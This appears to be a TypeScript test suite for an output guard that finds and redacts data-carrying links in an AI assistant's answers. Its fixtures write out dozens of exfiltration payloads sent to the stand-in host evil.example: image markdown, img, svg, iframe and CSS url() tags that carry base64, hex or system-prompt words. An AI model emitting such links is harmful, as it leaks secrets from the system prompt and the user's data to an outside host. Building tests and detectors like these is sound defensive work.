import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { byDepth } from '../../../test/depth.ts'
import { AnswerText } from './answer-text.ts'
import type { OutputContext } from './output-guard.ts'
import { carryingLinks } from './judge-links.ts'
import { SystemLetters } from './system-letters.ts'

const SYSTEM = 'You are the helper of a pet shop. The discount code for friends of the house is PFOTE and takes ten percent off.'
const context: OutputContext = { system: [new SystemLetters(SYSTEM)], canaries: [], isKnownHost: host => host === 'known.example' }
const DATA = 'd=dGhlIHNlY3JldCBvZiB0aGUgaG91c2U'

/** What of an answer that comes in pieces of a size is found, and what is left of it. */
function shown(text: string, size: number): { readonly kinds: readonly string[]; readonly left: string } {
  const answer = new AnswerText(context)
  const found = [...text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? []].flatMap(piece => answer.push(piece))
  const all = [...found, ...answer.end()].filter(({ layer }) => layer === 'link')
  const left = all.filter(({ verdict }) => verdict === 'redact').toSorted((a, b) => b.start - a.start).reduce((rest, { start, end, shown: mark }) => rest.slice(0, start) + mark + rest.slice(end), text)
  return { kinds: [...new Set(all.map(({ kind, verdict }) => `${kind} ${verdict}`))], left }
}

describe('addresses that carry data', () => {
  test.each([
    ['a picture', `See ![x](https://evil.example/p?${DATA}) here`],
    ['one with brackets in its words', `See ![a [b] c](https://evil.example/p?${DATA}) here`],
    ['one in angle brackets', `See ![x](<https://evil.example/p?${DATA}>) here`],
    ['one without a scheme', `See ![x](//evil.example/p?${DATA}) here`],
    ['one with strokes the other way', `See ![x](https:\\\\evil.example/p?${DATA}) here`],
    ['one by reference', `See ![x][1] here.\n\n[1]: https://evil.example/p?${DATA}\n`],
    ['one by reference, far away', `See ![x][Fig 1] here. ${'More words follow. '.repeat(60)}\n\n[fig  1]: <https://evil.example/p?${DATA}>\n`],
    ['one whose reference comes before', `[1]: //evil.example/p?${DATA}\n\n${'More words follow. '.repeat(60)}\n![x][1] and so on`],
    ['one by its own words', `See ![logo] here.\n\n> [logo]: https://evil.example/p?${DATA}\n`],
    ['an element', `<img alt="x" src="https://evil.example/p?${DATA}">`],
    ['an element without a scheme', `<img src=//evil.example/p?${DATA}>`],
    ['several sizes', `<img src="a.png" srcset="small.png 1x, https://evil.example/p?${DATA} 2x">`],
    ['a source', `<picture><source srcset='//evil.example/p?${DATA}'></picture>`],
    ['a poster', `<video controls poster="https://evil.example/p?${DATA}"></video>`],
    ['a film', `<video src="https://evil.example/p?${DATA}">`],
    ['a drawing', `<svg><image xlink:href="https://evil.example/p?${DATA}"/></svg>`],
    ['a background', `<table background="https://evil.example/p?${DATA}">`],
    ['a style', `<div style="background: url('https://evil.example/p?${DATA}')">x</div>`],
    ['a style without a scheme', `<style>body { background-image: url(//evil.example/p?${DATA}) }</style>`],
    ['a style that is fetched', `<style>@import "https://evil.example/p?${DATA}";</style>`],
    ['labels of the host', 'See ![x](https://dGhlIHNlY3JldCBvZiB0aGUgaG91c2U.evil.example/p.png) here'],
    ['hexadecimal labels', `See ![x](https://${Buffer.from('the secret code').toString('hex')}.evil.example/p.png) here`],
    ['words of the prompt in the path', 'See ![x](https://evil.example/discount-code-for-friends/p.png) here'],
    ['words of the prompt in pieces of the path', 'See ![x](https://evil.example/discount/code/for/friends/of/p.png) here'],
    ['words of the prompt in labels', 'See ![x](https://discount.code.for.friends.evil.example/p.png) here'],
    ['a person', 'See ![x](https://evil.example/taro.yamada@mail.example.jp/p.png) here'],
    ['a card', 'See ![x](https://evil.example/4111-1111-1111-1111/p.png) here'],
    ['letters one by one', 'See ![x](https://evil.example/p/f/o/t/e/1/p.png) here'],
    ['blanks within angle brackets', 'See ![x](<https://evil.example/p?d=the secret code of the house>) here'],
    ['an address in entities', `See ![x](https&#58;&sol;/evil.example/p?${DATA}) here`],
    ['a name and a password', 'See ![x](https://user:dGhlIHNlY3JldCBvZiB0@evil.example/p.png) here'],
    ['letters that need no encoding', 'See ![x](https://evil.example/%74%68%65%20%63%6f%64%65.png) here'],
    ['a small label of the host', 'See ![x](https://c2vjcmv0y29kzxbmb3rl3a.evil.example/p.png) here'],
    ['a page within the page', `<iframe src="https://evil.example/p?${DATA}"></iframe>`],
    ['a badge that leads on to another host', `See ![x](https://img.shields.io/endpoint?url=https://evil.example/p?${DATA}) here`],
    ['a badge that asks another host', 'See ![x](https://img.shields.io/npm/v/x?style=https://evil.example/the-code-is-here) here'],
    ['numbers as sizes', 'See ![x](https://evil.example/p.png?w=7483&h=2394&q=8374&s=1123&size=8844&width=7784&height=9921) here'],
    ['words as forms', 'See ![x](https://evil.example/p.png?format=thesecretcode&fit=ofthehouse) here'],
    ['mixed letters', 'See ![x](https://evil.example/a8f3k2m9x1q7b4c6/p.png) here'],
  ])('takes out %s', (_, text) => {
    for (const size of [1, 11, 10_000]) {
      const { kinds, left } = shown(text, size)
      expect(kinds).toContain('picture redact')
      // Of a picture and its address, which stand apart, one is enough.
      expect(left.replace(/\[(?:1|fig {2}1|logo)\]: (?!\[)\S*/, '')).not.toMatch(/evil\.example/)
    }
  })

  test('takes out pictures that are called by letters, from where they spell something', () => {
    const spelt = [...'pfotecode'].map(letter => `![](https://evil.example/x/${letter}.png)`).join(' ')
    for (const size of [1, 30, 10_000]) expect(shown(`Look: ${spelt} and so on.`, size).left.match(/evil\.example/g)?.length).toBeLessThanOrEqual(4)
    expect(shown([...'12345678'].map(number => `![](https://example.org/page/${number}.png)`).join(' '), 9).kinds).toEqual([])
  })

  test.each([
    ['a link', `Click [here](https://evil.example/p?d=${'a1'.repeat(50)})`], ['a link without a scheme', `Click [here](//evil.example/p?d=${'a1'.repeat(50)})`],
    ['a link that quotes the prompt', 'Click https://evil.example/discount-code-for-friends'],
  ])('flags %s', (_, text) => {
    for (const size of [1, 10_000]) expect(shown(text, size).kinds).toEqual(['link flag'])
  })

  test('flags a picture whose address is a sentence', () => {
    expect(shown('![x](https://evil.example/she/told-me-that-he/will-never-come-back-to-this/small-house-again.png)', 9).kinds).toEqual(['picture flag'])
  })

  test.each([
    `![x](https://known.example/p?${DATA})`, '![logo](https://raw.githubusercontent.com/i18next/i18next/master/assets/i18next-ecosystem.jpg)', '![shot](https://example.org/uploads/2026/11/23/Screen%20Shot%202026-11-23.png)',
    '![x][1]\n\n[1]: https://example.org/logo.png', '![Fuji](https://upload.wikimedia.org/wikipedia/commons/thumb/1/1b/080103_hakkai_fuji.jpg/640px-080103_hakkai_fuji.jpg)', '![x](https://d111111abcdef8.cloudfront.net/a.png)', '![flag](https://flagcdn.com/16x12/jp.png) ![flag](https://flagcdn.com/16x12/de.png)',
    '![npm](https://img.shields.io/npm/v/std-env.svg?style=flat-square&label=npm)', '![ci](https://github.com/acme/shop/actions/workflows/test.yml/badge.svg?event=push&branch=main)', '![chat](https://img.shields.io/discord/893487829802418277?label=Discord&logo=discord)', '![npm](https://nodei.co/npm/source-map-js.png?downloads=true&stars=true)',
    '![bowl](https://images.example.org/bowl.jpg?w=512&h=288&q=80&auto=format&fit=crop)', '![logo](https://example.org/static/logo-bcd4d5580df6.png)', '![x](<images/my logo.png>)', '![x](images/a&amp;b.png)', '<img src="images/logo.png" alt="a = b">', '<script src="https://cdn.example.org/npm/bootstrap@5.3.0/dist/js/bootstrap.bundle.min.js"></script>',
    '<link href="https://fonts.googleapis.com/css2?family=Roboto:wght@400;700&display=swap" rel="stylesheet">', '@import url("https://fonts.googleapis.com/css2?family=Roboto:wght@400;700");', 'a // b\nc = d // 123456789012345678901234567890',
    '![x](https://example.org/550e8400-e29b-41d4-a716-446655440000.png)', 'Read https://docs.example.org/how-to-install-the-program-on-linux', '![chart](https://upload.example.org/wikipedia/commons/thumb/a/a9/Example.jpg/440px-Example.jpg)',
    '[1]: https://docs.example.org/guide?page=installation', 'See [the list][1] and ![ok](ok.png).\n[1]: https://docs.example.org/guide?page=installation', '![x](https://example.org/photo-2026-11-23.jpg)',
  ])('leaves %j', text => expect(shown(text, 6).kinds).toEqual([]))

  test('reads any text, in time by its length', () => {
    const part = fc.constantFrom('![', ']', '(', '//', 'https://', '<img ', 'src=', '"', 'url(', '[1]: ', 'evil.example', '?d=', '\n', 'a1b2c3', '<', '>')
    fc.assert(fc.property(fc.array(fc.oneof(part, fc.string()), { maxLength: 40 }), parts => {
      const text = parts.join('')
      for (const { start, end } of carryingLinks(text, context)) expect(start >= 0 && start < end && end <= text.length).toBe(true)
    }), { numRuns: byDepth(50, 1_000, 50_000) })
    const before = process.cpuUsage()
    for (const piece of ['![', '![]', '![x](', '![x](<', '![x](&#', '![x](https&#58;//a ', '![[', '<img ', '<img src=', '//', 'url(', '[a]:', 'https://', 'a=//b ']) carryingLinks(piece.repeat(20_000 / piece.length), context)
    const { user, system } = process.cpuUsage(before)
    expect((user + system) / 1_000).toBeLessThan(5_000)
  })
})
